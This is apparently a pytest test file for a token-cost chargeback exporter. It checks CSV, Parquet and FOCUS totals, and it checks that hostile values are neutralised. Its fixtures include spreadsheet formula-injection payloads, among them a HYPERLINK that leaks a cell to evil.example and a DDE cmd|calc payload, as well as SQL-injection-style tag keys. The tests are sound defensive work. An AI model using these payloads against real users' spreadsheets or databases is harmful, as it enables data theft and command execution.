"""Chargeback export: CSV, Parquet and FOCUS columns; totals equal `tokenmeter report` exactly (both CLIs run
as separate processes reading through this process's warehouse endpoint)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import datetime, timezone
from decimal import Decimal
from pathlib import Path

import orjson
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from warehouse.backends import WarehouseError
from warehouse.export import FOCUS_COLUMNS, export_month

REPO = Path(__file__).resolve().parents[2]


@pytest.fixture
def month_data(wh, make_event):
    """May 2025 of one org (inserted once: a second insert of the same event ids stores nothing)."""
    events = []
    for i in range(30):
        event = make_event(f"export-{i}", "export-org", team=("search", "ads", "")[i % 3],
                                  cost=f"0.{i + 1:06d}000001", ts=f"2025-05-{1 + i % 28:02d}T{i % 24:02d}:10:00Z",
                                  model=("gpt-4o", "claude-sonnet-4")[i % 2],
                                  provider=("openai", "anthropic")[i % 2], priced=i != 7)
        event["attribution"]["tags"] = {"env": "prod"} if i % 4 else {}
        events.append(event)
    outside = make_event("export-june", "export-org", ts="2025-06-01T00:00:00Z", cost="9")
    wh.insert_priced(events + [outside])
    return events


def _cli(settings, *args: str) -> bytes:
    env = dict(os.environ, PYTHONPATH=str(REPO), TOKENMETER_DATA_DIR=str(settings.data_dir))
    result = subprocess.run([sys.executable, "-m", "app", *args], env=env, capture_output=True, timeout=120)
    assert result.returncode == 0, result.stderr.decode()
    return result.stdout


def test_focus_totals_and_columns_equal_tokenmeter_report(warehouse_settings, wh, month_data, tmp_path):
    report = orjson.loads(_cli(warehouse_settings, "report", "--group-by", "team", "--since", "2025-05-01",
                               "--until", "2025-06-01", "--format", "json"))
    out = tmp_path / "focus.csv"
    _cli(warehouse_settings, "export", "--month", "2025-05", "--format", "focus", "--out", str(out),
         "--group-by", "team,tag:env")
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert tuple(rows[0].keys()) == FOCUS_COLUMNS
    expected = sum(Decimal(e["cost_usd"]) for e in month_data)
    assert sum(Decimal(r["BilledCost"]) for r in rows) == expected == sum(Decimal(r["cost_usd"]) for r in report)
    for team in ("search", "ads", ""):
        mine = sum(Decimal(r["BilledCost"]) for r in rows if orjson.loads(r["Tags"])["team"] == team)
        assert mine == next(Decimal(r["cost_usd"]) for r in report if r["team"] == team)
    assert sum(int(r["x_Events"]) for r in rows) == len(month_data)
    assert sum(int(r["x_UnpricedEvents"]) for r in rows) == 1
    for row in rows:
        assert row["ChargeCategory"] == "Usage" and row["BillingCurrency"] == "USD"
        assert row["ServiceCategory"] == "AI and Machine Learning" and row["ChargeFrequency"] == "Usage-Based"
        assert row["BillingPeriodStart"] == "2025-05-01T00:00:00Z" and row["BillingPeriodEnd"] == "2025-06-01T00:00:00Z"
        assert row["ChargePeriodStart"] < row["ChargePeriodEnd"] and row["ChargePeriodStart"].startswith("2025-05-")
        assert row["BilledCost"] == row["EffectiveCost"] == row["ListCost"] == row["ContractedCost"]
        assert row["ServiceProviderName"] in ("OpenAI", "Anthropic") and row["HostProviderName"] == row["ServiceProviderName"]
        if row["ConsumedUnit"]:
            assert row["ConsumedUnit"] == "Tokens" and row["PricingUnit"] == "1000000 Tokens"
            assert Decimal(row["PricingQuantity"]) * 1_000_000 == Decimal(row["ConsumedQuantity"])
        assert row["ResourceId"] == f"{row['ResourceId'].split('/')[0]}/{row['ResourceName']}"
        assert set(orjson.loads(row["Tags"])) == {"team", "env"} and row["SubAccountType"] == "team+tag:env"


def test_report_groups_by_a_tag_as_the_export_does(warehouse_settings, wh, month_data):
    """walk31: `tokenmeter report --group-by tag:env` was refused ("unknown dimension") while `export --group-by
    tag:env` and the Showback page group by tags. Same rows as the export's now: untagged events under ''."""
    report = orjson.loads(_cli(warehouse_settings, "report", "--group-by", "team,tag:env", "--since", "2025-05-01",
                               "--until", "2025-06-01", "--format", "json"))
    export = csv.DictReader(io.StringIO(export_month(wh, "2025-05", "csv", ["team", "tag:env"]).decode()))

    def groups(rows) -> dict:
        return {(r["team"], r["tag:env"]): (Decimal(r["cost_usd"]), int(r["events"]), int(r["unpriced_events"]))
                for r in rows}

    assert groups(report) == groups(export)
    assert {env for _, env in groups(report)} == {"prod", ""}  # events without the tag: '' as the export has them
    assert sum(cost for cost, _, _ in groups(report).values()) == sum(Decimal(e["cost_usd"]) for e in month_data)


HOSTILE_TAG_KEYS = ("x' OR 1=1 --", "k" * 1000, "環境", "{tag_key_0:String}", "a]`b\\c")


def test_report_tag_keys_are_parameters_never_sql(wh, make_event):
    """A tag key is bound as a query parameter and names the column as given (SQL-ish, 1,000 characters, unicode,
    a parameter placeholder), on the rollup path (one tag) and on the raw table (several tags)."""
    from warehouse.showback import report_spend

    tagged = make_event("hostile-tag-0", "hostile-tag-org", ts="2024-07-10T10:00:00Z", cost="0.000200000000")
    tagged["attribution"]["tags"] = {key: f"value-{i}" for i, key in enumerate(HOSTILE_TAG_KEYS)}
    wh.insert_priced([tagged, make_event("hostile-tag-1", "hostile-tag-org", ts="2024-07-11T10:00:00Z")])
    window = {"since": "2024-07-01", "until": "2024-08-01"}
    for i, key in enumerate(HOSTILE_TAG_KEYS):
        frame = report_spend(wh, [f"tag:{key}"], **window)
        assert frame.columns[0] == f"tag:{key}"
        assert dict(zip(frame[f"tag:{key}"], frame["events"])) == {f"value-{i}": 1, "": 1}, key
    dims = [f"tag:{key}" for key in HOSTILE_TAG_KEYS]
    frame = report_spend(wh, ["team", *dims], **window)
    assert frame.columns[:len(dims) + 1] == ["team", *dims] and frame["events"].to_list() == [1, 1]
    assert report_spend(wh, ["tag:no such key"], **window)["tag:no such key"].to_list() == [""]


def test_csv_and_parquet_are_exact(wh, month_data):
    text = export_month(wh, "2025-05", "csv", ["team"]).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == ["billing_period", "team", "events", "unpriced_events", "input_tokens", "output_tokens",
                             "cached_input_tokens", "cache_write_tokens", "reasoning_tokens", "cost_usd"]
    assert all(len(r["cost_usd"].split(".")[1]) == 12 for r in rows)  # exact decimal strings, never floats
    assert sum(Decimal(r["cost_usd"]) for r in rows) == sum(Decimal(e["cost_usd"]) for e in month_data)
    table = pq.read_table(io.BytesIO(export_month(wh, "2025-05", "parquet", ["team", "model"])))
    assert table.schema.field("cost_usd").type == pa.decimal128(38, 12)
    assert sum(table.column("cost_usd").to_pylist()) == sum(Decimal(e["cost_usd"]) for e in month_data)
    scoped = list(csv.DictReader(io.StringIO(export_month(wh, "2025-05", "csv", ["team"], team="ads").decode())))
    assert [r["team"] for r in scoped] == ["ads"]
    total = list(csv.DictReader(io.StringIO(export_month(wh, "2025-05", "csv", []).decode())))
    assert len(total) == 1 and int(total[0]["events"]) == len(month_data)
    with pytest.raises(WarehouseError, match="YYYY-MM"):
        export_month(wh, "2025-13", "csv", [])
    with pytest.raises(WarehouseError, match="format"):
        export_month(wh, "2025-05", "xlsx", [])


FORMULAS = {"team": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "project": "+1+1", "user": "-2+3",
            "feature": "@SUM(A1:A9)", "api_key": "\tkey", "org": "formula-org"}


def test_csv_text_cells_never_run_as_formulas_and_numbers_stay_numbers(wh, make_event):
    """Issue 11 item 10: a team named `=HYPERLINK(...)` was written as-is, a live formula in Excel/Sheets."""
    event = make_event("formula-0", "formula-org", team=FORMULAS["team"], cost="0.000123000000",
                       ts="2024-02-10T10:00:00Z")
    event["attribution"].update({k: v for k, v in FORMULAS.items() if k not in ("team", "org")})
    event["attribution"]["tags"] = {"env": "=1+2"}
    wh.insert_priced([event])
    dims = ["team", "project", "user", "feature", "api_key", "tag:env"]
    rows = list(csv.DictReader(io.StringIO(export_month(wh, "2024-02", "csv", dims).decode())))
    row = next(r for r in rows if r["events"] == "1" and r["user"].endswith("-2+3"))
    for dim in ("team", "project", "user", "feature", "api_key"):
        assert row[dim] == "'" + FORMULAS[dim], dim
    assert row["tag:env"] == "'=1+2"
    assert row["cost_usd"] == "0.000123000000" and row["input_tokens"] == "100"  # numeric columns untouched
    focus = list(csv.DictReader(io.StringIO(export_month(wh, "2024-02", "focus", ["team"]).decode())))
    ours = [r for r in focus if "HYPERLINK" in r["SubAccountName"]]
    # FOCUS 1.3 has one row per SKU (token kind): the call's cost is their sum, each cell a plain number
    assert ours and sum(Decimal(r["BilledCost"]) for r in ours) == Decimal("0.000123000000")
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in focus + rows for cell in r.values())


def test_report_csv_neutralises_formulas_but_keeps_negative_numbers():
    import polars as pl

    from warehouse.report import render_report

    frame = pl.DataFrame({"team": ["=cmd|' /C calc'!A0", "ok"], "difference": [Decimal("-1.5"), Decimal("2")]})
    rows = list(csv.reader(io.StringIO(render_report(frame, "csv"))))
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    assert rows[1][1].startswith("-1.5")  # a negative number is a number, not a formula: no quote


# Full-width (U+FF1D = U+FF0B + U+FF0D - U+FF20 @) and small-form (U+FE66 =, U+FE62 +, U+FE63 -, U+FE6B @) signs: NFKC
# folds them to the ASCII ones; they get the same quote (docs/finance.md).
WIDE_FORMULAS = ["\uff1dHYPERLINK(\"http://evil.example/\",\"x\")", "\uff0b1+1", "\uff0d2+3", "\uff20SUM(A1:A9)",
                 "\ufe66cmd|' /C calc'!A0", "\ufe62\u0031", "\ufe63\u0031", "\ufe6bSUM(A1)"]


def test_full_width_formula_signs_are_neutralised_as_the_ascii_ones():
    """left24: a team named `＝HYPERLINK(...)` went out as it was while `=HYPERLINK(...)` got its quote."""
    import polars as pl

    from warehouse.export import _csv
    from warehouse.report import render_report

    frame = pl.DataFrame({"team": WIDE_FORMULAS, "cost_usd": [Decimal("-1.5")] * len(WIDE_FORMULAS)})
    for text in (render_report(frame, "csv"), _csv(["team", "cost_usd"], frame.rows()).decode()):
        rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
        assert [row[0] for row in rows] == ["'" + cell for cell in WIDE_FORMULAS]
        assert all(row[1].startswith("-1.5") for row in rows)  # numbers stay numbers
    plain = ["\uff21team", "\u30c1\u30fc\u30e0", "\uff11\uff12"]  # a full-width letter, katakana, full-width digits
    assert list(csv.reader(io.StringIO(_csv(["team"], [[c] for c in plain]).decode())))[1:] == [[c] for c in plain]


LINE_BREAKING = {"team": "ops\r=1+1", "project": "a,b \"q\"\nline2", "user": "\x00=1+1"}


def test_csv_cell_with_a_bare_carriage_return_is_quoted_so_no_row_starts_with_a_formula(wh, make_event):
    """walk23: `ops\\r=1+1` was written unquoted (Python's csv quotes only what its line terminator "\\n" holds);
    Excel and LibreOffice end a row at a bare CR, so `=1+1,...` began a new row and ran as a formula."""
    event = make_event("crlf-0", "crlf-org", team=LINE_BREAKING["team"], cost="0.000321000000",
                       ts="2024-03-10T10:00:00Z")
    event["attribution"].update({k: v for k, v in LINE_BREAKING.items() if k != "team"})
    wh.insert_priced([event])
    from warehouse.report import render_report

    dims = ["team", "project", "user"]
    texts = [export_month(wh, "2024-03", "csv", dims).decode(),  # the dashboard's export, `tokenmeter export`
             render_report(wh.spend(dims, since=datetime(2024, 3, 1, tzinfo=timezone.utc),
                                      until=datetime(2024, 4, 1, tzinfo=timezone.utc)), "csv")]  # `report`
    for text in texts:
        # a spreadsheet's reading: CR, LF and CRLF end a row outside quotes, as Python's reader with newline=""
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) == 2, rows  # the header and the one group: nothing split off into a row of its own
        assert all(not cell.startswith(("=", "+", "@", "\t", "\r", "\x00")) for row in rows for cell in row), rows
        header, row = rows
        cells = dict(zip(header, row))
        assert cells["team"] == "ops\r=1+1" and cells["project"] == LINE_BREAKING["project"]
        assert cells["user"] == "'\x00=1+1"


# walk25: OWASP's CSV injection page: no cell may begin with = + - @ tab CR LF, and a separator (`,` or `;`) or
# quote inside a cell must not let a dangerous sign start a cell of its own. Spreadsheets skip leading white space
# before a formula (Superset and defusedcsv check past it; both also quote `|` and `%`, `|` being DDE's `cmd|`).
SPACED = [" =1+1", "  +1+1", "\u00a0-2+3", "\u3000@SUM(A1)", "\u200b=1+1", "|calc", "%0A=1+1", "\n=1+1",
          " \uff1d1+1"]
SEPARATED = ["ops;=1+1", "ops\t=1+1"]  # a `;` or tab list separator would split these: quoted, kept whole
LITERAL = ["'=1+1", "'plain"]  # a name already starting with ' gets one more, so reading back is exact


def test_csv_neutralises_signs_behind_white_space_pipes_and_separators_and_reads_back_exactly(wh, make_event):
    import polars as pl

    from warehouse.export import _csv, original_text
    from warehouse.report import render_report

    cells = SPACED + SEPARATED + LITERAL + ["plain team", " padded"]
    frame = pl.DataFrame({"team": cells, "cost_usd": [Decimal("-1.5")] * len(cells)})
    for text in (render_report(frame, "csv"), _csv(["team", "cost_usd"], frame.rows()).decode()):
        rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
        assert [row[0] for row in rows] == ["'" + c for c in SPACED] + SEPARATED + ["'" + c for c in LITERAL] + [
            "plain team", " padded"]
        assert [original_text(row[0]) for row in rows] == cells  # one leading ' dropped: the stored name
        assert all(row[1].startswith("-1.5") for row in rows)  # numbers stay numbers
        for cell in SEPARATED:  # in the file itself the cell is quoted, so a `;` or tab split keeps it whole
            assert f'\n"{cell}",' in text
    event = make_event("spaced-0", "spaced-org", team=" =1+1", cost="0.000200000000", ts="2024-05-10T10:00:00Z")
    event["attribution"]["project"] = "|calc"
    wh.insert_priced([event])
    focus = export_month(wh, "2024-05", "focus", ["team", "project"])
    assert focus == export_month(wh, "2024-05", "focus", ["team", "project"])  # byte-reproducible
    rows = [r for r in csv.DictReader(io.StringIO(focus.decode())) if "calc" in (r["SubAccountName"] or "")]
    # FOCUS names a group "team=...,project=...": the names are inside the cell, which starts with "team="
    assert rows and {r["SubAccountName"] for r in rows} == {"team= =1+1,project=|calc"}
    assert sum(Decimal(r["BilledCost"]) for r in rows) == Decimal("0.0002")
    assert all(not cell.lstrip().startswith(("=", "+", "@", "|")) for r in rows for cell in r.values() if cell)


def test_spreadsheet_csv_writes_the_bytes_of_pythons_writer_where_it_quoted_enough():
    """walk25 writes rows itself (to quote `;` and tab too): every other cell comes out as csv.writer wrote it, so
    FOCUS and chargeback files without those characters are byte for byte what they were."""
    import random

    from warehouse.export import spreadsheet_csv

    alphabet = ["a", "Z", "0", " ", ",", '"', "'", "\r", "\n", "=", "-", "\u00e9", "\uff1d", "{", ":", ".", "\x00"]
    pick = random.Random(25)
    for _ in range(300):
        rows = [["".join(pick.choice(alphabet) for _ in range(pick.randrange(6))) for _ in range(pick.randrange(1, 4))]
                for _ in range(pick.randrange(1, 4))]
        out = io.StringIO()
        writer = csv.writer(out, lineterminator="\r\n")
        expected = ""
        for row in rows:
            writer.writerow(row)
            expected += out.getvalue()[:-2] + "\n"
            out.seek(0)
            out.truncate()
        assert spreadsheet_csv(rows[0], rows[1:]) == expected, rows


def test_a_malformed_month_is_named_in_80_characters_not_echoed_whole():
    """A 1 MB `--month` argument (or a month cell of a hostile file) filled the error and the terminal."""
    from warehouse.export import month_bounds

    for hostile in ("1" * 1_000_000, "2026-" + "1" * 200):
        with pytest.raises(WarehouseError) as caught:
            month_bounds(hostile)
        message = str(caught.value)
        assert len(message) < 160 and "is not YYYY-MM" in message and "..." in message
    with pytest.raises(WarehouseError, match=r"month: '2021-13' is not YYYY-MM"):
        month_bounds("2021-13")
